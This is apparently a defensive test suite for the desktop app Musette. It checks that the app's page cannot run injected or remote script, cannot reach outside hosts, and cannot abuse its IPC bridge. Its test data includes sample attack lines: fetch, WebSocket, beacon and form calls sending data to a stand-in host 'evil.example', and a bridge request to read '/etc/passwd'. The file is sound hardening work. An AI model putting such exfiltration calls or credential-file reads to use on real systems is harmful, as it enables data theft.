import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { endDesktops, makeDesktopWorld, musetteDrivers, type OpenDesktop } from '../helpers/desktop.ts'
import { until } from '../helpers/until.ts'

describe.each(musetteDrivers())('what the page may not do, on $name', driver => {
  const spec = test.skipIf(driver.missing !== null)
  let app: OpenDesktop
  let page: Page

  beforeAll(async () => {
    if (driver.missing !== null) return
    app = await (await makeDesktopWorld(driver)).open()
    page = await app.window()
  })
  afterAll(endDesktops)

  /** What the page's policy refuses while this runs. */
  const refusedBy = (script: string): Promise<string> =>
    page.evaluate(`new Promise(resolve => {
      document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective), { once: true })
      // In a task of its own: while a debugger evaluates, Chromium lets eval pass.
      setTimeout(async () => { ${script} })
      setTimeout(() => resolve('nothing'), 5000) })`)

  spec('the bridge has two members and nothing else is there', async () => {
    const asked = `[Object.keys(window.musette).sort(), typeof require, typeof process, typeof module, typeof Buffer]`
    expect(await page.evaluate(asked)).toEqual([
      ['onEvent', 'request'],
      ...['undefined', 'undefined', 'undefined', 'undefined'],
    ])
  })

  spec('the bridge cannot be changed', async () => {
    const change = `(() => {
      const before = window.musette.request
      try { window.musette = {} } catch {}
      try { window.musette.request = () => 1 } catch {}
      return window.musette.request === before })()`
    expect(await page.evaluate(change)).toBe(true)
  })

  test.skipIf(driver.missing !== null).each([
    [
      'an inline script',
      `const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)`,
      'require-trusted-types-for',
    ],
    [
      'a handler in an attribute',
      `const b = document.createElement('b'); b.setAttribute('onclick', 'window.ran = 1'); b.click()`,
      'require-trusted-types-for',
    ],
    ['eval', `(0, eval)('window.ran = 1')`, 'require-trusted-types-for'],
    [
      'a remote script',
      `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)`,
      'require-trusted-types-for',
    ],
    ['a remote picture', `new Image().src = 'https://evil.example/x.png'`, 'img-src'],
    ['fetch', `await fetch('https://evil.example/')`, 'connect-src'],
    ['a WebSocket', `new WebSocket('wss://evil.example/')`, 'connect-src'],
    ['a beacon', `navigator.sendBeacon('https://evil.example/', 'x')`, 'connect-src'],
    [
      'a frame',
      `const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)`,
      'frame-src',
    ],
    [
      'a plugin',
      `const o = document.createElement('object'); o.data = 'https://evil.example/x'; document.body.append(o)`,
      'require-trusted-types-for',
    ],
    [
      'a form',
      `const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post'; document.body.append(f); f.submit()`,
      'form-action',
    ],
    [
      'a base address',
      `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)`,
      'base-uri',
    ],
  ])('%s is refused by the policy', async (_what, script, directive) => {
    expect(await refusedBy(script)).toBe(directive)
    expect(await page.evaluate('typeof window.ran')).toBe('undefined')
  })

  spec('navigating away is refused and the page stays', async () => {
    const before = page.url()
    await page.evaluate(`void (location.href = 'https://evil.example/away')`)
    await until(async () => (await app.state()).navigations.length > 0, 'the question')
    expect((await app.state()).navigations).toEqual([{ url: 'https://evil.example/away', isPrevented: true }])
    expect(page.url()).toBe(before)
    expect(await page.evaluate(`'musette' in window`)).toBe(true)
  })

  spec('new windows are refused', async () => {
    await page.evaluate(`void window.open('https://evil.example/window')`)
    await until(async () => (await app.state()).windowsAsked.length > 0, 'the question')
    expect((await app.state()).windowsAsked).toEqual([{ url: 'https://evil.example/window', action: 'deny' }])
    expect((await app.state()).windows).toHaveLength(1)
    expect((await app.state()).opened).toEqual([])
  })

  spec('every permission is denied', async () => {
    const names = [
      'geolocation',
      'notifications',
      'camera',
      'microphone',
      'clipboard-read',
      'midi',
      'idle-detection',
    ]
    const states = `Promise.all(${JSON.stringify(names)}.map(
      async name => (await navigator.permissions.query({ name })).state))`
    expect(await page.evaluate(states)).toEqual(names.map(() => 'denied'))
    const place = `new Promise(resolve => navigator.geolocation.getCurrentPosition(() => resolve('told'), ({ code }) => resolve(code)))`
    expect(await page.evaluate(place)).toBe(1)
    expect(
      await page.evaluate(`navigator.clipboard.readText().then(() => 'read', error => error.name)`),
    ).toBe('NotAllowedError')
  })

  spec('the window is made with every safe option', async () => {
    expect((await app.state()).windows[0]?.webPreferences).toMatchObject({
      contextIsolation: true,
      sandbox: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
      experimentalFeatures: false,
      enableBlinkFeatures: '',
      webviewTag: false,
    })
  })

  test.skipIf(driver.missing !== null).each([
    ['no name', null, []],
    ['an unknown name', 'readFile', ['/etc/passwd']],
    ['a name of every object', 'constructor', []],
    ['the prototype', '__proto__', []],
    ['no list', 'showFile', 7],
    ['a wrong type', 'showFile', ['7']],
    ['too few', 'showFile', []],
    ['too many', 'getSnapshot', ['and more']],
    ['a wrong word', 'pause', ['forever']],
    ['a wrong object', 'changePreferences', [{ theme: 'pink' }]],
    ['a huge text', 'connect', ['x'.repeat(1_000_000)]],
  ])('a request with %s is refused before any handler sees it', async (_what, name, args) => {
    const answer = await app.request(name, args)
    expect(answer).toMatchObject({ kind: 'failed', error: { recovery: 'give-up' } })
    expect(answer.kind === 'failed' && answer.error.code).not.toBe('internal')
  })

  spec('nothing of all this went out', async () => {
    expect((await app.state()).outgoing).toEqual([])
  })

  // The last one: it leaves another page in the window.
  spec('a page that is not Musette’s own is answered with a refusal', async () => {
    const foreign = 'data:text/html,<title>foreign</title>'
    await app.act('loadPage', foreign)
    await until(async () => (await app.state()).windows[0]?.url === foreign, 'the other page')
    const answer = await (await app.page()).evaluate(`window.musette.request('getSnapshot', [])`)
    expect(answer).toMatchObject({
      kind: 'failed',
      error: { message: 'This page may not ask that of Musette.' },
    })
  })
})
